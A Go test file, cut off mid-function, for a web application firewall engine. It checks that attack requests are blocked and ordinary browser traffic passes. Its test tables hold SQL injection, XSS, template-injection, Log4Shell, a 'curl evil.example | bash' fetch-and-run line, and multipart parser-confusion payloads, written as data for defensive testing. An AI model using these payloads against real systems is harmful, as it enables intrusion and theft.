package waf

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"mime"
	"mime/multipart"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/dewar-security/dewar/internal/formdata"
)

var shared = sync.OnceValues(func() (*Engine, error) { return New(Config{}) })

func engine(t testing.TB) *Engine {
	t.Helper()
	e, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// browser is the head of an ordinary request by a current browser to a Flask
// app with a signed session and a CSRF token.
func browser(method, uri string) Request {
	return Request{
		Method: method, URI: uri, Proto: "HTTP/1.1", Host: "shop.example.com",
		Client: netip.MustParseAddr("203.0.113.9"),
		Header: http.Header{
			"User-Agent":                {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"},
			"Accept":                    {"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
			"Accept-Language":           {"de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"},
			"Accept-Encoding":           {"gzip, deflate, br, zstd"},
			"Cache-Control":             {"max-age=0"},
			"Sec-Ch-Ua":                 {`"Chromium";v="140", "Not=A?Brand";v="24", "Google Chrome";v="140"`},
			"Sec-Ch-Ua-Mobile":          {"?0"},
			"Sec-Ch-Ua-Platform":        {`"Linux"`},
			"Sec-Fetch-Dest":            {"document"},
			"Sec-Fetch-Mode":            {"navigate"},
			"Sec-Fetch-Site":            {"same-origin"},
			"Sec-Fetch-User":            {"?1"},
			"Upgrade-Insecure-Requests": {"1"},
			"Referer":                   {"https://shop.example.com/search?q=blue+shoes&page=2"},
			"Cookie":                    {"session=.eJwlzjEOwjAMAMC_ZGawHSeO-xlkx7FgbemE-DuVGG-7T9nXEc-zbO_jikfZX6tsRW1Kp1WVPaZhJAoSdHQfbU4hI-gDYEUCtcrDmmZ3r1MXSLB0SWVrHThmBk9ZPSbqGHcBkQYBU1-DKQVE1UgZeUDFqS3BbuUOuY51_DYEtXx_nwAvVQ.aLx2Kw.1d7kRqGx3N0r9oT4w5y7zQmS2cE; remember_token=42|5b9f0a3c1d2e4f68a7b9c0d1e2f3a4b5c6d7e8f90112233445566778899aabbccddeeff00112233445566778899aabbccddeeff0011223344556677889900aabb; csrf_token=IjY4ZjRhMmNkMTIzNDU2Nzg5MGFiY2RlZjEyMzQ1Njc4OTBhYmNkZWYi.aLx2Kw.Zb3QmC3v0J8p1Q2w4E6r8T0y2U4; _ga=GA1.2.1234567890.1700000000; theme=dark"},
		},
	}
}

func withBody(r Request, contentType, body string) Request {
	r.Header.Set("Content-Type", contentType)
	r.Header.Set("Content-Length", fmt.Sprint(len(body)))
	r.Body = strings.NewReader(body)
	return r
}

const form = "application/x-www-form-urlencoded"

func multipartBody(t testing.TB, fields map[string]string, filename string, file []byte) (contentType, body string) {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	if err := w.SetBoundary("----WebKitFormBoundary7MA4YWxkTrZu0gW"); err != nil {
		t.Fatal(err)
	}
	if filename != "" {
		p, err := w.CreateFormFile("image", filename)
		if err != nil {
			t.Fatal(err)
		}
		p.Write(file)
	}
	for k, v := range fields {
		w.WriteField(k, v)
	}
	w.Close()
	return w.FormDataContentType(), b.String()
}

func query(name, value string) string { return name + "=" + url.QueryEscape(value) }

type attack struct {
	name    string
	request func(t testing.TB) Request
	rule    int // one rule that must be among the matches
}

func param(value string) func(testing.TB) Request {
	return func(testing.TB) Request { return browser("GET", "/search?"+query("q", value)) }
}

func posted(value string) func(testing.TB) Request {
	return func(testing.TB) Request {
		return withBody(browser("POST", "/comment"), form, "title=Hello&"+query("text", value))
	}
}

func header(name, value string) func(testing.TB) Request {
	return func(testing.TB) Request {
		r := browser("GET", "/")
		r.Header.Set(name, value)
		return r
	}
}

func jsonBody(body string) func(testing.TB) Request {
	return func(testing.TB) Request { return withBody(browser("POST", "/api/orders"), "application/json", body) }
}

var attacks = []attack{
	{"sql tautology", param("1' OR '1'='1"), 942100},
	{"sql union", param("-1 UNION SELECT username, password FROM users--"), 942100},
	{"sql union in a form", posted("x' UNION SELECT 1,2,version() -- "), 942100},
	{"sql blind sleep", param("1; SELECT pg_sleep(10)--"), 942151},
	{"sql stacked", posted("'; DROP TABLE users; --"), 942100},
	{"sql in JSON", jsonBody(`{"items":[{"sku":"a","note":"1' OR '1'='1' -- "}]}`), 942100},
	{"sql in an escaped JSON string", jsonBody(`{"q":"1\u0027 OR \u00271\u0027=\u00271"}`), 942100},
	{"xss script", param("<script>alert(document.cookie)</script>"), 941100},
	{"xss event handler in a form", posted(`<img src=x onerror=alert(1)>`), 941160},
	{"xss svg", param(`<svg/onload=alert(1)>`), 941160},
	{"xss javascript url", posted(`<a href="javascript:alert(document.domain)">x</a>`), 941170},
	{"rce chained command", param("; cat /etc/passwd"), 932160},
	{"rce substitution", posted("$(curl http://evil.example/x.sh|bash)"), 932130},
	{"rce powershell", param("|powershell -enc SQBFAFgA"), 932120},
	{"shellshock", header("User-Agent", "() { :; }; /bin/bash -c 'id'"), 932170},
	{"lfi traversal", param("../../../../etc/passwd"), 930120},
	{"lfi in the path", func(testing.TB) Request { return browser("GET", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd") }, 930100},
	{"lfi environ", param("/proc/self/environ"), 930120},
	{"rfi", param("http://203.0.113.66/shell.txt?"), 931100},
	{"ssti jinja", param("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"), rulesFlask + 10},
	{"ssti class walk", posted("{{ ''.__class__.__mro__[1].__subclasses__() }}"), rulesFlask + 10},
	{"ssti arithmetic", param("{{7*7}}"), rulesFlask + 10},
	{"ssti config", param("{{config}}"), rulesFlask + 10},
	{"ssti attr filter", posted(`{%set a=()|attr("\x5f\x5fclass\x5f\x5f")%}`), rulesFlask + 10},
	{"ssti in the path", func(testing.TB) Request { return browser("GET", "/hello/%7B%7Burl_for.__globals__%7D%7D") }, rulesFlask + 10},
	{"python introspection without braces", param("().__class__.__base__.__subclasses__()"), rulesFlask + 20},
	{"python import", posted("__import__('os').system('id')"), rulesFlask + 20},
	{"log4shell", header("User-Agent", "${jndi:ldap://evil.example/a}"), 944150},
	{"log4shell in a parameter", param("${${lower:j}ndi:ldap://evil.example/a}"), 944150},
	{"php code", posted("<?php system($_GET['c']); ?>"), 933100},
	{"php wrapper", param("php://filter/convert.base64-encode/resource=index.php"), 933140},
	{"node injection", posted("require('child_process').execSync('id')"), 934100},
	{"prototype pollution", jsonBody(`{"__proto__":{"isAdmin":true}}`), 934130},
	{"ssrf metadata", param("http://169.254.169.254/latest/meta-data/iam/"), 934110},
	{"java runtime", posted("java.lang.Runtime.getRuntime().exec('id')"), 944100},
	{"response splitting", param("en\r\nSet-Cookie: admin=1"), 921120},
	{"scanner", header("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"), 913100},
	{"session fixation", param("<script>document.cookie='session=x'</script>"), 941100},
	{"xml external entity text", func(testing.TB) Request {
		return withBody(browser("POST", "/api/xml"), "application/xml", `<?xml version="1.0"?><o><n>1' UNION SELECT password FROM users-- </n></o>`)
	}, 942100},
	{"cookie", func(testing.TB) Request {
		r := browser("GET", "/")
		r.Header.Set("Cookie", "theme=1' UNION SELECT password FROM users--")
		return r
	}, 942100},
	{"multipart field behind a large file", func(t testing.TB) Request {
		ct, b := multipartBody(t, map[string]string{"text": "<script>alert(1)</script>"}, "cat.jpg", random(300<<10))
		return withBody(browser("POST", "/upload"), ct, b)
	}, 941100},
	{"multipart script upload", func(t testing.TB) Request {
		ct, b := multipartBody(t, nil, "shell.php", []byte("<?php ?>"))
		return withBody(browser("POST", "/upload"), ct, b)
	}, 933110},
	{"JSON under another type (get_json(force=True))", func(testing.TB) Request {
		return withBody(browser("POST", "/api"), "application/octet-stream", `{"q":"1\u0027 OR \u00271\u0027=\u00271"}`)
	}, 942100},
	{"JSON that only Python accepts, under another type", func(testing.TB) Request {
		return withBody(browser("POST", "/api"), "text/plain", `{"n":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}`)
	}, 942100},
	{"JSON subtype", func(testing.TB) Request {
		return withBody(browser("POST", "/api"), "application/vnd.x_y+json; charset=utf-8", `{"q":"<script>alert(1)</script>"}`)
	}, 941100},
	{"JSON with a no-break space before its type", func(testing.TB) Request {
		return withBody(browser("POST", "/api"), "\xa0application/json", `{"q":"<script>alert(1)</script>"}`)
	}, 941100},
	{"plain text", func(testing.TB) Request {
		return withBody(browser("POST", "/paste"), "text/plain", "<script>alert(1)</script>")
	}, 941100},
	{"plain text behind a control character", func(testing.TB) Request {
		return withBody(browser("POST", "/paste"), "text/plain", "\x01<script>alert(1)</script>")
	}, 941100},
	{"a JSON string in UTF-16, declared as text", func(testing.TB) Request {
		return withBody(browser("POST", "/paste"), "text/plain", "\"\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00a\x00l\x00e\x00r\x00t\x00(\x001\x00)\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00\"\x00")
	}, 941100},
	{"sql in a segment of the path", func(testing.TB) Request {
		return browser("GET", "/user/1'%20OR%20'1'='1'%20UNION%20SELECT%20password%20FROM%20users--")
	}, 942100},
}

// dataURI is an image as editors paste it into text.
var dataURI = "data:image/png;base64," + base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), random(60<<10)...))

func random(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

type honest struct {
	name    string
	request func(t testing.TB) Request
}

var honests = []honest{
	{"names in the path", func(testing.TB) Request {
		return browser("GET", "/wiki/Tom%20&%20Jerry's%20(1940%20%E2%80%93%201958)/rock%20'n'%20roll/caf%C3%A9;v=2/C%23/100%25/what%20is%20SELECT%3F")
	}},
	{"Latin-1 text", func(testing.TB) Request {
		return withBody(browser("POST", "/notes"), "text/plain; charset=iso-8859-1", "Gr\xfc\xdfe aus K\xf6ln")
	}},
	{"page", func(testing.TB) Request { return browser("GET", "/product/blue-suede-shoes?size=42&color=blue") }},
	{"search with umlauts", param("Größe 42 & Schuhe für Damen")},
	{"search with an apostrophe", param("Levi's jeans O'Neill")},
	{"question", posted("How do I select the right size from the table? I'd order 2 or 3.")},
	{"login", func(testing.TB) Request {
		return withBody(browser("POST", "/login"), form, query("csrf_token", "IjY4ZjRhMmNk.aLx2Kw.Zb3QmC3v0J8p1Q2w4E6r8T0y2U4")+"&"+query("email", "alice@example.com")+"&"+query("password", "correct horse; battery-staple 7!")+"&"+query("next", "/account"))
	}},
	{"rich text", posted(`<p>Hello <strong>world</strong>, see <a href="https://example.com/a?b=1&amp;c=2">this</a>.</p><ul><li>One</li><li>Two</li></ul>`)},
	{"markdown", posted("# Title\n\nSome *text* with `code` and a [link](https://example.com/).\n\n- a\n- b")},
	{"address", func(testing.TB) Request {
		return withBody(browser("POST", "/checkout"), form, query("name", "Jean-Luc D'Arc")+"&"+query("street", "12, Rue de la Liberté, 2nd floor")+"&"+query("phone", "+33 1 23 45 67 89")+"&"+query("comment", "Ring twice; leave at door #3 - thanks!"))
	}},
	{"JSON API", jsonBody(`{"items":[{"sku":"SHOE-42","quantity":2,"price":59.9,"tags":["new","sale"]},{"sku":"HAT-1","quantity":1,"price":19.0,"tags":[]}],"shipping":{"name":"Zoë","city":"São Paulo","express":true,"note":null},"total":138.8}`)},
	{"PUT and DELETE and PATCH", func(testing.TB) Request {
		return withBody(browser("PATCH", "/api/orders/7"), "application/merge-patch+json", `{"status":"shipped"}`)
	}},
	{"base64 image in JSON", jsonBody(`{"avatar":"` + dataURI + `","name":"Zoë"}`)},
	{"base64 image in JSON with escaped slashes", jsonBody(`{"avatar":"` + strings.ReplaceAll(dataURI, "/", `\/`) + `"}`)},
	{"base64 image in Markdown", posted("Look: ![our cat](" + dataURI + ")")},
	{"handlebars in a template editor", posted("Dear {{ name }}, your order {{order_id}} has shipped.")},
	{"python in a comment", posted("Define __init__ and call super().__init__() first.")},
	{"jpeg upload", func(t testing.TB) Request {
		ct, b := multipartBody(t, map[string]string{"title": "Our holiday", "csrf_token": "IjY4ZjRhMmNk.aLx2Kw.Zb3"}, "Foto vom Strand (1).jpg", append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF"), random(300<<10)...))
		return withBody(browser("POST", "/upload"), ct, b)
	}},
	{"upload of a file that quotes an attack", func(t testing.TB) Request {
		ct, b := multipartBody(t, map[string]string{"title": "notes"}, "notes.txt", []byte("<script>alert(1)</script> ' UNION SELECT 1--"))
		return withBody(browser("POST", "/upload"), ct, b)
	}},
	{"empty file input", func(testing.TB) Request {
		b := "--XX\r\nContent-Disposition: form-data; name=\"image\"; filename=\"\"\r\nContent-Type: application/octet-stream\r\n\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello\r\n--XX--\r\n"
		return withBody(browser("POST", "/upload"), "multipart/form-data; boundary=XX", b)
	}},
	{"binary PUT", func(testing.TB) Request {
		return withBody(browser("PUT", "/files/1"), "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"+string(random(4096)))
	}},
	{"plain text that begins with a bracket", func(testing.TB) Request {
		return withBody(browser("POST", "/log"), "text/plain", "[2026-01-02 10:00] service started, 3 workers ready")
	}},
	{"IPv4 host", func(testing.TB) Request {
		r := browser("GET", "/")
		r.Host = "127.0.0.1:8443"
		return r
	}},
	{"curl", func(testing.TB) Request {
		return Request{Method: "GET", URI: "/api/health", Proto: "HTTP/1.1", Host: "shop.example.com", Client: netip.MustParseAddr("::1"),
			Header: http.Header{"User-Agent": {"curl/8.5.0"}, "Accept": {"*/*"}}}
	}},
	{"curl upload with Expect", func(testing.TB) Request {
		r := withBody(browser("POST", "/api/orders"), "application/json", `{"a":1}`)
		r.Header.Set("Expect", "100-continue")
		return r
	}},
	{"HTTP/2 form without Content-Length", func(testing.TB) Request {
		r := withBody(browser("POST", "/c"), form, "a=1")
		r.Header.Del("Content-Length")
		r.Proto = "HTTP/2.0"
		return r
	}},
	{"chunked JSON", func(testing.TB) Request {
		r := withBody(browser("POST", "/api"), "application/json", `{"a":1}`)
		r.Header.Del("Content-Length")
		r.TransferEncoding = []string{"chunked"}
		return r
	}},
	{"text area", posted("Hello,\r\n\r\nthe parcel (no. 12/34) hasn't arrived; could you check? Price: 20 € - 10% = 18 €.\r\n\r\n-- \r\nAnna & Tom")},
	{"HEAD", func(testing.TB) Request { return browser("HEAD", "/static/style.css?v=1.2.3") }},
	{"CORS preflight", func(testing.TB) Request {
		r := browser("OPTIONS", "/api/orders/7")
		r.Header.Set("Origin", "https://app.example.com")
		r.Header.Set("Access-Control-Request-Method", "PUT")
		return r
	}},
	{"OAuth callback", func(testing.TB) Request {
		return browser("GET", "/callback?code=4%2F0AfJohXn-abcdefghijklmnop_QRSTUVWX&state=eyJuIjoiL2FjY291bnQifQ.sig&scope=openid%20email%20profile&iss=https%3A%2F%2Faccounts.example.com")
	}},
	{"websocket handshake", func(testing.TB) Request {
		r := browser("GET", "/ws")
		r.Header.Set("Connection", "Upgrade")
		r.Header.Set("Upgrade", "websocket")
		r.Header.Set("Sec-Websocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
		r.Header.Set("Sec-Websocket-Version", "13")
		return r
	}},
}

func inspect(t testing.TB, e *Engine, r Request) Verdict {
	t.Helper()
	v, err := e.Inspect(context.Background(), r)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestAttacksAreDenied(t *testing.T) {
	e := engine(t)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			v := inspect(t, e, a.request(t))
			if !v.Denied || v.Status < 400 {
				t.Fatalf("passed: %+v", v)
			}
			if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.ID == a.rule }) {
				t.Errorf("rule %d did not match, but: %s", a.rule, v.Summary())
			}
			if v.Reason == ReasonAttack && v.Score < v.Threshold {
				t.Errorf("score %d below %d", v.Score, v.Threshold)
			}
		})
	}
}

func TestHonestRequestsPass(t *testing.T) {
	e := engine(t)
	for _, h := range honests {
		t.Run(h.name, func(t *testing.T) {
			if v := inspect(t, e, h.request(t)); v.Denied {
				t.Fatalf("denied (%s): %s %+v", v.Reason, v.Summary(), v.Matches)
			} else if v.Score > 0 {
				t.Errorf("one more point and it is denied: %s", v.Summary())
			} else if v.Reference {
				t.Error("Coraza had to be asked")
			}
		})
	}
}

// Texts that the Core Rule Set takes for attacks at paranoia level 1. They are
// kept so that a new version of the rules that does better is noticed.
func TestKnownFalsePositives(t *testing.T) {
	e := engine(t)
	denied := 0
	for _, text := range []string{
		"union was a great select", "zsh is the best!", "ls 300 lexus", "john+or@var.es", "JavaScript: Basics of programming",
		"12, Rue de l'Église (2nd floor)",
		`<p>Look: <img src="/static/cat.jpg" alt="our cat"></p>`,
	} {
		v := inspect(t, e, withBody(browser("POST", "/comment"), form, query("text", text)))
		t.Logf("%q: denied %v, %s", text, v.Denied, v.Summary())
		if v.Denied {
			denied++
		}
	}
	if denied != 7 {
		t.Errorf("%d of 7 texts are denied: correct the list and the documentation", denied)
	}
}

// The trap of coraza-caddy issue 351: under concurrency an attack was logged
// as denied and answered 200. Every verdict must belong to its own request.
func TestConcurrentVerdicts(t *testing.T) {
	e := engine(t)
	var wg sync.WaitGroup
	for w := range 8 {
		wg.Go(func() {
			r := rand.New(rand.NewPCG(uint64(w), 7))
			for range 8 {
				if r.IntN(2) == 0 {
					a := attacks[r.IntN(len(attacks))]
					v, err := e.Inspect(t.Context(), a.request(t))
					if err != nil || !v.Denied {
						t.Errorf("%s passed: %v %+v", a.name, err, v)
					} else if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.ID == a.rule }) {
						t.Errorf("%s got another request's verdict: %s", a.name, v.Summary())
					}
					continue
				}
				h := honests[r.IntN(len(honests))]
				if v, err := e.Inspect(t.Context(), h.request(t)); err != nil || v.Denied {
					t.Errorf("%s denied: %v %s", h.name, err, v.Summary())
				}
			}
		})
	}
	wg.Wait()
}

// hidden is a file with a script behind delimiter in its contents.
func hidden(delimiter string) string {
	return "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.txt\"\r\n\r\nx" + delimiter +
		"Content-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"
}

func TestMalformedBodies(t *testing.T) {
	e := engine(t)
	for _, c := range []struct{ name, contentType, body string }{
		{"JSON cut", "application/json", `{"a":"b`},
		{"JSON in UTF-16", "application/json", "{\x00\"\x00a\x00\"\x00:\x001\x00}\x00"},
		{"JSON in UTF-16 under another type", "application/octet-stream", "\xff\xfe{\x00\"\x00a\x00\"\x00:\x001\x00}\x00"},
		{"JSON too deep", "application/json", strings.Repeat("[", 5000) + strings.Repeat("]", 5000)},
		{"multipart without boundary", "multipart/form-data", "x"},
		{"multipart cut", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello"},
		{"multipart header without colon", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition\r\n\r\nhello\r\n--XX--\r\n"},
		{"quoted-printable", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nhello\r\n--XX--\r\n"},
		// A file to Coraza, a field to Werkzeug: nobody would look at it.
		{"space before the equals sign", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"q\"; filename =\"x\"\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"},
		{"continued file name", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"q\"; filename*0=\"x\"\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"},
		{"file name in an unknown charset", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"q\"; filename*=koi8-r''x\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"},
		{"space before the header's colon", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition : form-data; name=\"q\"\r\n\r\nx\r\n--XX--\r\n"},
		{"one Content-Disposition to Go, two to Werkzeug", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition : form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"q\"; filename=\"x\"\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"},
		// A file's contents to Go, a field to Werkzeug.
		{"boundary behind LF", "multipart/form-data; boundary=XX", hidden("\n--XX\r\n")},
		{"boundary behind CR", "multipart/form-data; boundary=XX", hidden("\r--XX\r\n")},
		{"boundary before LF", "multipart/form-data; boundary=XX", hidden("\r\n--XX\n")},
		{"boundary before CR", "multipart/form-data; boundary=XX", hidden("\r\n--XX\r")},
		{"boundary before space", "multipart/form-data; boundary=XX", hidden("\r\n--XX \r\n")},
		{"boundary before vertical tab", "multipart/form-data; boundary=XX", hidden("\r\n--XX\x0b\r\n")},
		{"boundary in the preamble", "multipart/form-data; boundary=XX", "junk--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XX--\r\n"},
		{"header ended by LF", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\n\r\nhello\r\n--XX--\r\n"},
		{"CR in a part's header", "multipart/form-data; boundary=XX", "--XX\r\nX: y\rContent-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x\"\r\n\r\n<script>alert(1)</script>\r\n--XX--\r\n"},
		{"boundary in RFC 2231 form", "multipart/form-data; boundary*=utf-8''XX", "--XX--\r\n"},
		{"two boundaries", "multipart/form-data; boundary=YY; boundary=XX", "--XX--\r\n"},
		{"two Content-Dispositions", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"b\"; filename=\"x\"\r\n\r\nhello\r\n--XX--\r\n"},
	} {
		v := inspect(t, e, withBody(browser("POST", "/"), c.contentType, c.body))
		if !v.Denied || v.Reason != ReasonMalformed || v.Status != 400 {
			t.Errorf("%s: %+v", c.name, v)
		}
	}
}

func TestLimits(t *testing.T) {
	e, err := New(Config{MaxInspect: 2000, MaxArguments: 20})
	if err != nil {
		t.Fatal(err)
	}
	partial, err := New(Config{MaxInspect: 2000, MaxArguments: 20, Partial: true})
	if err != nil {
		t.Fatal(err)
	}
	const evil = "<script>alert(1)</script>"
	pad := strings.Repeat("lorem ipsum ", 300)
	ct, late := multipartBody(t, map[string]string{"pad": pad}, "a.jpg", random(100))
	for _, c := range []struct {
		name, contentType, body string
	}{
		{"form", form, "a=" + pad},
		{"JSON", "application/json", `{"pad":"` + pad + `"}`},
		{"text", "text/plain", pad},
		{"multipart field", ct, late},
	} {
		if v := inspect(t, e, withBody(browser("POST", "/"), c.contentType, c.body)); !v.Denied || v.Reason != ReasonTooLarge || v.Status != 413 {
			t.Errorf("%s: %+v", c.name, v)
		}
		if v := inspect(t, partial, withBody(browser("POST", "/"), c.contentType, c.body)); v.Denied || !v.Partial {
			t.Errorf("%s, partial: %+v", c.name, v)
		}
	}
	_, early := multipartBody(t, map[string]string{"a": evil}, "a.jpg", random(100))
	early = strings.TrimSuffix(early, "--\r\n") + "\r\nContent-Disposition: form-data; name=\"pad\"\r\n\r\n" + pad
	for _, c := range []struct{ name, contentType, body string }{
		{"form", form, query("a", evil) + "&b=" + pad},
		{"JSON", "application/json", `{"a":"` + evil + `","b":"` + pad + `"}`},
		{"JSON, one cut value", "application/json", `{"a":"` + evil + pad + `"}`},
		{"XML", "application/xml", `<a><b>` + evil + `</b><c>` + pad + `</c></a>`},
		{"multipart", ct, early},
	} {
		if v := inspect(t, partial, withBody(browser("POST", "/"), c.contentType, c.body)); !v.Denied || v.Reason != ReasonAttack {
			t.Errorf("%s: the attack before the cut passed: %+v", c.name, v)
		}
	}

	many := strings.TrimSuffix(strings.Repeat("a=1&", 40), "&")
	parts := strings.Repeat("--XX\r\nContent-Disposition: form-data; name=\"a\"; filename=\"x\"\r\n\r\n\r\n", 40) + "--XX--\r\n"
	for name, r := range map[string]Request{
		"query":     browser("GET", "/?"+many),
		"form":      withBody(browser("POST", "/"), form, many),
		"JSON":      withBody(browser("POST", "/"), "application/json", "["+strings.TrimSuffix(strings.Repeat("1,", 40), ",")+"]"),
		"multipart": withBody(browser("POST", "/"), "multipart/form-data; boundary=XX", parts),
	} {
		if v := inspect(t, e, r); !v.Denied || v.Reason != ReasonArguments || v.Status != 400 {
			t.Errorf("%s: %+v", name, v)
		}
	}
}

func TestExclusions(t *testing.T) {
	e := engine(t)
	sqli := func() Request { return posted("1' OR '1'='1")(t) }
	base := inspect(t, e, sqli())
	if !base.Denied {
		t.Fatal("the attack passes without an exclusion")
	}
	var ids []int
	for _, m := range base.Matches {
		ids = append(ids, m.ID)
	}
	for _, c := range []struct {
		name   string
		x      Exclusion
		r      Request
		denied bool
	}{
		{"rules off", Exclusion{Rules: ids}, sqli(), false},
		{"another rule off", Exclusion{Rules: []int{941100}}, sqli(), true},
		{"parameter", Exclusion{Rules: ids, Parameters: []string{"text"}}, sqli(), false},
		{"another parameter", Exclusion{Rules: ids, Parameters: []string{"title"}}, sqli(), true},
		{"parameter, all rules", Exclusion{Parameters: []string{"text"}}, sqli(), false},
		{"parameter, all rules, attack elsewhere", Exclusion{Parameters: []string{"title"}}, sqli(), true},
		{"a name is no pattern", Exclusion{Parameters: []string{"t.xt"}}, sqli(), true},
		{"query parameter", Exclusion{Parameters: []string{"q"}}, param("1' OR '1'='1")(t), false},
		{"JSON member", Exclusion{Parameters: []string{"items.*.note"}}, jsonBody(`{"items":[{"note":"1' OR '1'='1"}]}`)(t), false},
		{"JSON member elsewhere", Exclusion{Parameters: []string{"items.*.note"}}, jsonBody(`{"items":[{"name":"1' OR '1'='1"}]}`)(t), true},
	} {
		plan, err := e.Plan(c.x)
		if err != nil {
			t.Fatal(err)
		}
		c.r.Plan = plan
		if v := inspect(t, e, c.r); v.Denied != c.denied {
			t.Errorf("%s: denied %v: %s", c.name, v.Denied, v.Summary())
		}
	}
	// A plan lives for one request: pooled transactions must forget it.
	for range 50 {
		if v := inspect(t, e, sqli()); !v.Denied {
			t.Fatal("an exclusion outlived its request")
		}
	}
	if _, err := e.Plan(Exclusion{Rules: []int{942101}}); err != nil {
		t.Error(err)
	}
	_, err := e.Plan(Exclusion{Rules: []int{942109}})
	if err == nil || !strings.Contains(err.Error(), "942109") || !strings.Contains(err.Error(), "did you mean") {
		t.Errorf("unknown rule: %v", err)
	}
	if _, err := e.Plan(Exclusion{}); err == nil {
		t.Error("an empty exclusion was accepted")
	}
	global, err := New(Config{Exclude: []Exclusion{{Rules: ids, Parameters: []string{"text"}}}})
	if err != nil {
		t.Fatal(err)
	}
	if v := inspect(t, global, sqli()); v.Denied {
		t.Errorf("global exclusion: %s", v.Summary())
	}
}

func TestParanoiaAndThreshold(t *testing.T) {
	strict, err := New(Config{Paranoia: 2})
	if err != nil {
		t.Fatal(err)
	}
	const text = "sleeping 3 hours; having 2 beers, it's 'fine' -- really"
	r := func() Request { return posted(text)(t) }
	lax, high := inspect(t, engine(t), r()), inspect(t, strict, r())
	if high.Score <= lax.Score {
		t.Errorf("level 2 scored %d, level 1 %d", high.Score, lax.Score)
	}
	tolerant, err := New(Config{InboundThreshold: 1000})
	if err != nil {
		t.Fatal(err)
	}
	v := inspect(t, tolerant, param("1' OR '1'='1")(t))
	if v.Denied || len(v.Matches) == 0 || v.Score < 5 || v.Threshold != 1000 {
		t.Errorf("below the threshold: %+v", v)
	}
	for _, bad := range []Config{{Paranoia: 5}, {Paranoia: -1}, {InboundThreshold: -1}, {MaxInspect: -1}} {
		if _, err := New(bad); err == nil {
			t.Errorf("%+v was accepted", bad)
		}
	}
}

func TestRuleFiles(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	write("words.data", "zanzibar\nquux\n")
	good := write("good.conf", "# our own\nSecRule ARGS \"@pmFromFile words.data\" \\\n  \"id:1000,phase:2,deny,status:406,msg:'word',t:lowercase\"\n")
	e, err := New(Config{RuleFiles: []string{good}})
	if err != nil {
		t.Fatal(err)
	}
	v := inspect(t, e, param("Zanzibar")(t))
	if !v.Denied || v.RuleID != 1000 || v.Status != 406 || v.Reason != ReasonRule {
		t.Errorf("%+v", v)
	}
	if v := inspect(t, e, param("1' OR '1'='1")(t)); !v.Denied {
		t.Error("extra rules replaced the Core Rule Set")
	}
	for name, c := range map[string]struct{ text, want string }{
		"unknown directive": {"# one\n\nSecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\nSecRool ARGS x\n", "bad.conf:4: "},
		"bad regexp":        {"\nSecRule ARGS \\\n \"@rx (\" \\\n \"id:1,phase:2,deny\"\n", "bad.conf:2: "},
		"id used twice":     {"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\nSecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\n", "bad.conf:2: "},
		"Coraza would fail": {"SecAction \"id:1,phase:1,pass,nolog,setvar:!tx.page\"\n", "rule 1 "},
		"empty":             {"\n", "empty"},
	} {
		_, err := New(Config{RuleFiles: []string{good, write("bad.conf", c.text)}})
		if err == nil || !strings.Contains(err.Error(), c.want) {
